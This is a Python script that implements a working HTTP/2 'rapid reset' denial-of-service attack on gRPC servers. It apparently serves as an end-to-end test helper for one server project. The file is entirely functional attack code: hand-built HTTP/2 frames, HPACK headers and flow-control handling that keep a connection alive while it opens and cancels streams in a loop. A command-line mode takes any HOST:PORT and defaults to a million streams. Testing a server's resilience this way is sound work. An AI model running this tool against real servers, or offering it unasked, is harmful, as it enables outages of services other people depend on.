#!/usr/bin/python3
"""A raw HTTP/2 client (standard library only: hand-built frames, HPACK literals) for the rapid-reset attack on a
gRPC server: on one connection it opens a stream with HEADERS, sends one gRPC message in DATA, and cancels it with
RST_STREAM at once, in a loop. It answers SETTINGS and PING as a real client must, honours the connection's flow
control window, and stops on GOAWAY or when the server closes the connection.

Usable as a module (tests/e2e/rapid_reset_test.py) and from the command line:
  h2_rapid_reset.py HOST:PORT [--streams N] [--seconds S]   (prints streams sent and how the connection ended)
"""
import argparse
import socket
import struct
import threading
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE = 0x0, 0x1, 0x3, 0x4, 0x6, 0x7, 0x8
END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1
CANCEL = 0x8


def frame(kind, flags, stream_id, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream_id) + payload


def hpack_int(value, prefix_bits, first_byte_flags=0):
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([first_byte_flags | value])
    out = [first_byte_flags | limit]
    value -= limit
    while value >= 128:
        out.append((value & 0x7F) | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def hpack_literal(name, value):
    """Literal header field without indexing, new name, no Huffman (RFC 7541 6.2.2)."""
    return (b"\x00" + hpack_int(len(name), 7) + name.encode() + hpack_int(len(value), 7) + value.encode())


def request_headers(path, authority, token=""):
    block = b"\x83\x86"  # static table: :method POST, :scheme http
    block += hpack_literal(":path", path) + hpack_literal(":authority", authority)
    block += hpack_literal("content-type", "application/grpc") + hpack_literal("te", "trailers")
    if token:
        block += hpack_literal("authorization", "Bearer " + token)
    return block


class Attacker:
    """One connection that resets every stream it opens. `run` returns the number of streams sent."""

    def __init__(self, host, port, path="/accelsel.v1.AcceleratorSelector/SelectAccelerator", message=b"",
                 token=""):
        self.sock = socket.create_connection((host, port))
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.headers = request_headers(path, "%s:%d" % (host, port), token)
        self.grpc_message = b"\x00" + struct.pack(">I", len(message)) + message
        self.lock = threading.Lock()
        self.window = 65535  # connection-level send window (the server's streams start with their own)
        self.window_grew = threading.Condition(self.lock)
        self.closed = None  # why the connection ended: "GOAWAY <code>", "EOF", an exception
        self.reader = threading.Thread(target=self._read, daemon=True)

    def _send(self, data):
        with self.lock:
            self.sock.sendall(data)

    def _read(self):
        buf = b""
        try:
            while self.closed is None:
                chunk = self.sock.recv(1 << 16)
                if not chunk:
                    self._close("EOF")
                    return
                buf += chunk
                while len(buf) >= 9:
                    length = int.from_bytes(buf[0:3], "big")
                    if len(buf) < 9 + length:
                        break
                    kind, flags, stream_id = buf[3], buf[4], int.from_bytes(buf[5:9], "big") & 0x7FFFFFFF
                    payload, buf = buf[9:9 + length], buf[9 + length:]
                    if kind == SETTINGS and not flags & ACK:
                        self._send(frame(SETTINGS, ACK, 0))
                    elif kind == PING and not flags & ACK:
                        self._send(frame(PING, ACK, 0, payload))
                    elif kind == WINDOW_UPDATE and stream_id == 0:
                        with self.lock:
                            self.window += int.from_bytes(payload[0:4], "big") & 0x7FFFFFFF
                            self.window_grew.notify_all()
                    elif kind == GOAWAY:
                        self._close("GOAWAY %d" % int.from_bytes(payload[4:8], "big"))
        except OSError as e:
            self._close("socket error: %s" % e)

    def _close(self, why):
        with self.lock:
            if self.closed is None:
                self.closed = why
            self.window_grew.notify_all()

    def run(self, streams, seconds, batch=64):
        """Sends up to `streams` HEADERS+DATA+RST_STREAM triples within `seconds`; returns how many were sent."""
        self.sock.sendall(PREFACE + frame(SETTINGS, 0, 0))
        self.reader.start()
        deadline = time.time() + seconds
        sent, stream_id = 0, 1
        data_len = len(self.grpc_message)
        try:
            while sent < streams and time.time() < deadline and self.closed is None:
                n = min(batch, streams - sent)
                with self.lock:
                    while self.window < n * data_len and self.closed is None and time.time() < deadline:
                        self.window_grew.wait(0.5)
                    if self.closed is not None or self.window < n * data_len:
                        break
                    self.window -= n * data_len
                out = bytearray()
                for _ in range(n):
                    out += frame(HEADERS, END_HEADERS, stream_id, self.headers)
                    out += frame(DATA, 0, stream_id, self.grpc_message)
                    out += frame(RST_STREAM, 0, stream_id, struct.pack(">I", CANCEL))
                    stream_id += 2
                self._send(bytes(out))
                sent += n
        except OSError as e:
            self._close("socket error: %s" % e)
        return sent

    def close(self):
        self._close("closed by the client")
        try:
            self.sock.shutdown(socket.SHUT_RDWR)
        except OSError:
            pass
        self.sock.close()


def main():
    p = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    p.add_argument("target", help="HOST:PORT")
    p.add_argument("--streams", type=int, default=1000000)
    p.add_argument("--seconds", type=float, default=30)
    p.add_argument("--token", default="")
    args = p.parse_args()
    host, port = args.target.rsplit(":", 1)
    a = Attacker(host, int(port), token=args.token)
    start = time.time()
    sent = a.run(args.streams, args.seconds)
    print("sent %d streams in %.1f s; connection: %s" % (sent, time.time() - start, a.closed or "open"))
    a.close()


if __name__ == "__main__":
    main()
